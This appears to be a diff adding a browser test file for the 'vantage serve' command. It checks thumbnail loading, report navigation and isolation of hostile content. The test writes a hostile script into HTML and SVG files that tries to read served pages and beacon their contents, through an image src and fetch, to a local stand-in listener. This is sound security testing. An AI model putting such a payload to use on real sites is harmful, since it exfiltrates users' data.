@@ -1,0 +1,110 @@
+// SPDX-License-Identifier: MIT
+// What `vantage serve` shows, in real Chromium: our pages work, and those of others can do nothing.
+import assert from 'node:assert/strict';
+import { execFileSync, spawn } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as http from 'node:http';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { after, before, test } from 'node:test';
+import { launch } from './browser.mjs';
+
+const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'vantage-serve-'));
+const results = path.join(folder, 'results');
+const model = path.join(process.env.VANTAGE_MODELS, 'cat_lowpoly.ply');
+const kCount = 120; // what a page of the index shows
+let browser;
+let server;
+let address;
+let elsewhere; // whom a hostile page would tell
+const told = [];
+
+before(async () => {
+  const vantage = (...args) => execFileSync(process.env.VANTAGE, args, { cwd: folder, stdio: 'pipe' });
+  vantage('view', model, '-o', path.join(results, 'm000'), '--search', 'rapid', '--size', '64x48');
+  vantage('compare', model, '-o', path.join(results, 'compared'), '--method', 'silhouette-length');
+  for (let i = 1; i < kCount; ++i) {
+    fs.cpSync(path.join(results, 'm000'), path.join(results, `m${String(i).padStart(3, '0')}`), { recursive: true });
+  }
+  elsewhere = http.createServer((request, response) => {
+    told.push(request.url);
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
+  });
+  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
+  const to = `http://127.0.0.1:${elsewhere.address().port}/`;
+  const script = `
+    const tell = (what) => { new Image().src = '${to}?image=' + what; fetch('${to}?fetch=' + what).catch(() => {}); };
+    tell('ran');
+    for (const page of ['/', '/m000/view.json']) {
+      fetch(page).then((r) => r.text()).then((t) => { document.title = 'read'; tell(t.length); }).catch(() => {});
+    }
+    const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
+    frame.src = '/';
+    frame.onload = () => { try { tell(frame.contentDocument.body.textContent.length); } catch { /* no origin */ } };
+    document.documentElement.append(frame);`;
+  fs.writeFileSync(path.join(results, 'evil.html'), `<!doctype html><title>evil</title><script>${script}</script>`);
+  fs.mkdirSync(path.join(results, 'evil'));
+  fs.writeFileSync(path.join(results, 'evil', 'report.html'), `<!doctype html><title>evil</title><script>${script}</script>`);
+  fs.writeFileSync(path.join(results, 'evil.svg'),
+    `<svg xmlns="http://www.w3.org/2000/svg"><title>evil</title><script><![CDATA[${script}]]></script></svg>`);
+  server = spawn(process.env.VANTAGE, ['serve', results, '-q'], { stdio: ['ignore', 'pipe', 'inherit'] });
+  address = await new Promise((done) => server.stdout.once('data', (text) => done(String(text).trim())));
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  server?.kill('SIGINT');
+  elsewhere?.close();
+  fs.rmSync(folder, { recursive: true, force: true });
+});
+
+test('the index shows all its small pictures, and soon', async () => {
+  const page = await browser.newPage();
+  const refused = [];
+  page.on('console', (m) => m.type() === 'error' && refused.push(m.text()));
+  await page.setViewportSize({ width: 1200, height: 6000 });
+  const start = Date.now();
+  await page.goto(address);
+  await page.waitForFunction((count) => {
+    const images = [...document.images];
+    images.forEach((image) => { image.loading = 'eager'; });
+    return images.length === count && images.every((image) => image.complete && image.naturalWidth > 0);
+  }, kCount, { timeout: 60000 });
+  assert.ok(Date.now() - start < 5000, `${Date.now() - start} ms`);
+  assert.deepEqual(refused, []);
+  await page.close();
+});
+
+test('a picture of the index leads to a report that works', async () => {
+  const page = await browser.newPage();
+  const refused = [];
+  page.on('console', (m) => m.type() === 'error' && refused.push(m.text()));
+  page.on('pageerror', (e) => refused.push(e.message));
+  await page.goto(address);
+  await page.click('article a >> nth=0');
+  await page.waitForSelector('html[data-ready=yes]', { state: 'attached', timeout: 60000 });
+  assert.match(page.url(), /report\.html$/);
+  assert.deepEqual(refused, []);
+  await page.close();
+});
+
+test('the page of compare shows its contact sheet', async () => {
+  const page = await browser.newPage();
+  await page.goto(`${address}compared/index.html`);
+  await page.waitForFunction(() => document.images.length > 0 &&
+    [...document.images].every((image) => image.complete && image.naturalWidth > 0));
+  await page.close();
+});
+
+for (const name of ['evil.html', 'evil.svg', 'evil/report.html']) {
+  test(`a hostile ${name} reads nothing and tells nobody`, async () => {
+    told.length = 0;
+    const page = await browser.newPage();
+    await page.goto(address + name);
+    await page.waitForTimeout(1500);
+    assert.deepEqual(told, []);
+    assert.notEqual(await page.title(), 'read');
+    await page.close();
+  });
+}
